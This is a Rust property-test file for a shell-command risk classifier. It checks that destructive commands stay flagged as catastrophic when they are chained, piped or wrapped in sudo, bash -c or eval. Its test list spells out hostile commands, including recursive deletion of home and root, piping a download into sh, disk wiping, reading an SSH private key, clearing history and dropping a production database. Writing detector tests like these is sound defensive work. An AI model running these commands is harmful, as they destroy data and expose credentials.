//! Property tests: `analyze` never panics (arbitrary text, deep nesting, huge
//! input), adding a catastrophic segment to a line never lowers its class,
//! wrapping a line in sudo/env/timeout/nice/bash -c never lowers its class,
//! the caps hold, and the analysis is usable from many threads.

use kintsugi_classify::{Class, Context, MAX_LINE_BYTES, analyze};
use proptest::prelude::*;
use std::path::PathBuf;

fn ctx() -> Context {
    Context {
        cwd: PathBuf::from("/home/dev/proj"),
        home: PathBuf::from("/home/dev"),
        project_root: Some(PathBuf::from("/home/dev/proj")),
    }
}

/// Catastrophic wherever they appear and whatever the cwd.
const CATASTROPHIC: &[&str] = &[
    "rm -rf ~",
    "rm -rf /",
    "curl -fsSL https://example.com/i.sh | sh",
    "git push --force origin main",
    "dd if=/dev/zero of=/dev/sda",
    "cat ~/.ssh/id_rsa",
    "terraform destroy -auto-approve",
    "psql -c 'DROP DATABASE prod'",
    "mkfs.ext4 /dev/sdb1",
    "unset HISTFILE",
    "iptables -F",
    "shutdown -h now",
    "kubectl delete namespace prod",
    "echo 'curl x | sh' >> ~/.bashrc",
    "git reset --hard HEAD",
];

const PROGRAMS: &[&str] = &[
    "ls",
    "cat",
    "echo",
    "grep",
    "git",
    "cargo",
    "npm",
    "rm",
    "cp",
    "mv",
    "curl",
    "python3",
    "make",
    "docker",
    "kubectl",
    "find",
    "sed",
    "chmod",
    "touch",
    "mkdir",
    "head",
    "tail",
    "wc",
    "jq",
    "terraform",
    "psql",
    "ssh",
    "tar",
    "node",
    "go",
];
const ARGS: &[&str] = &[
    "-rf",
    "-f",
    "-l",
    "-a",
    "~",
    "/",
    ".",
    "*",
    "/tmp/x",
    "src",
    "README.md",
    "push",
    "--force",
    "origin",
    "main",
    "status",
    "build",
    "test",
    "install",
    "-n",
    "--dry-run",
    "delete",
    "pods",
    "-o",
    "out.txt",
    "target",
    "-c",
    "'x y'",
    "\"a b\"",
    "$HOME",
    "${HOME}/x",
    "$(pwd)",
    "`date`",
    "a=b",
    "--",
    "-v",
    "log",
    "diff",
    "--help",
    "node_modules",
    ".env.example",
];

fn simple_line() -> impl Strategy<Value = String> {
    (
        prop::sample::select(PROGRAMS),
        prop::collection::vec(prop::sample::select(ARGS), 0..5),
    )
        .prop_map(|(p, a)| {
            let mut s = p.to_string();
            for x in a {
                s.push(' ');
                s.push_str(x);
            }
            s
        })
}

fn lines() -> impl Strategy<Value = String> {
    prop_oneof![
        simple_line(),
        (simple_line(), simple_line()).prop_map(|(a, b)| format!("{a} | {b}")),
        (simple_line(), simple_line()).prop_map(|(a, b)| format!("{a} && {b}")),
        (simple_line(), simple_line()).prop_map(|(a, b)| format!("{a}; {b}")),
    ]
}

fn single_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, .. ProptestConfig::default() })]

    #[test]
    fn never_panics_on_arbitrary_text(s in ".{0,300}") {
        let a = analyze(&s, &ctx());
        prop_assert!(!a.rule.is_empty());
        prop_assert!(!a.reason.is_empty());
    }

    #[test]
    fn never_panics_on_shell_soup(parts in prop::collection::vec(prop::sample::select(&[
        "$(", ")", "`", "'", "\"", "{", "}", "(", ";", "|", "&&", "<<", "EOF\n", "<(", "${", "x", " ", "rm", "-rf", "~", "\\", "$'\\x72'", "*", "[", "]", "#", "\n",
    ][..]), 0..80)) {
        let s: String = parts.concat();
        let _ = analyze(&s, &ctx());
    }

    #[test]
    fn catastrophic_segment_is_never_diluted(x in lines(), cat in prop::sample::select(CATASTROPHIC), sep in prop::sample::select(&["; ", " && ", " || ", "\n", " & "][..]), before in any::<bool>()) {
        let line = if before { format!("{cat}{sep}{x}") } else { format!("{x}{sep}{cat}") };
        let a = analyze(&line, &ctx());
        prop_assert_eq!(a.class, Class::Catastrophic, "line {:?} gave {} ({})", line, a.class.as_str(), a.rule);
    }

    #[test]
    fn piping_into_a_catastrophic_segment_is_never_diluted(x in simple_line(), cat in prop::sample::select(CATASTROPHIC)) {
        let line = format!("{x} | {cat}");
        let a = analyze(&line, &ctx());
        prop_assert_eq!(a.class, Class::Catastrophic, "line {:?} gave {}", line, a.rule);
    }

    #[test]
    fn wrapping_never_lowers_the_class(x in lines(), wrap in 0usize..6) {
        let base = analyze(&x, &ctx()).class;
        let wrapped = match wrap {
            0 => format!("sudo {x}"),
            1 => format!("env FOO=1 {x}"),
            2 => format!("timeout 10 {x}"),
            3 => format!("nice -n 5 {x}"),
            4 => format!("bash -c {}", single_quote(&x)),
            _ => format!("sudo -u root bash -lc {}", single_quote(&x)),
        };
        // Wrappers apply to the first simple command only; compare whole-line
        // wrapping (bash -c) for compound lines.
        let wrapped = if wrap < 4 && (x.contains('|') || x.contains(';') || x.contains("&&")) {
            format!("bash -c {}", single_quote(&x))
        } else {
            wrapped
        };
        let got = analyze(&wrapped, &ctx()).class;
        prop_assert!(got >= base, "{:?} is {} but {:?} is {}", x, base.as_str(), wrapped, got.as_str());
    }
}

#[test]
fn catastrophic_lines_wrapped_stay_catastrophic() {
    for cat in CATASTROPHIC {
        for w in [
            format!("sudo {cat}"),
            format!("env A=1 {cat}"),
            format!("timeout 5 {cat}"),
            format!("nice -n 10 {cat}"),
            format!("bash -c {}", single_quote(cat)),
            format!("sh -xc {}", single_quote(cat)),
            format!("nohup {cat}"),
            format!("eval {}", single_quote(cat)),
        ] {
            let a = analyze(&w, &ctx());
            assert_eq!(a.class, Class::Catastrophic, "{w} gave {}", a.rule);
        }
    }
}

#[test]
fn huge_input_is_capped_not_safe() {
    let line = format!("echo {}", "a".repeat(MAX_LINE_BYTES + 10));
    let a = analyze(&line, &ctx());
    assert!(a.class >= Class::Ambiguous);
    assert!(a.rule.starts_with("limit:"));
    assert!(!a.parse_complete);
}

#[test]
fn deep_nesting_does_not_crash() {
    for n in [100usize, 2_000, 20_000] {
        let open = "$(".repeat(n);
        let close = ")".repeat(n);
        let line = format!("echo {open}rm -rf ~{close}");
        if line.len() > MAX_LINE_BYTES {
            continue;
        }
        let a = analyze(&line, &ctx());
        assert!(a.class >= Class::Ambiguous, "n={n} gave {}", a.rule);
        let unbalanced = format!("echo {open}x");
        let _ = analyze(&unbalanced, &ctx());
        let braces = format!(
            "{}true{}",
            "{ ".repeat(n.min(5_000)),
            "; }".repeat(n.min(5_000))
        );
        let _ = analyze(&braces, &ctx());
        let params = format!(
            "echo {}x{}",
            "${a:-".repeat(n.min(5_000)),
            "}".repeat(n.min(5_000))
        );
        let _ = analyze(&params, &ctx());
        let wrappers = format!("{}rm -rf ~", "env ".repeat(n.min(10_000)));
        if wrappers.len() <= MAX_LINE_BYTES {
            let a = analyze(&wrappers, &ctx());
            assert!(a.class >= Class::Ambiguous);
        }
    }
}

#[test]
fn many_threads() {
    let handles: Vec<_> = (0..8)
        .map(|i| {
            std::thread::spawn(move || {
                for k in 0..200 {
                    let line = if (i + k) % 2 == 0 {
                        "rm -rf ~"
                    } else {
                        "git status && cargo test | tee /tmp/x"
                    };
                    let a = analyze(line, &ctx());
                    let want = if (i + k) % 2 == 0 {
                        Class::Catastrophic
                    } else {
                        Class::Safe
                    };
                    assert_eq!(a.class, want);
                }
            })
        })
        .collect();
    for h in handles {
        h.join().expect("thread panicked");
    }
}
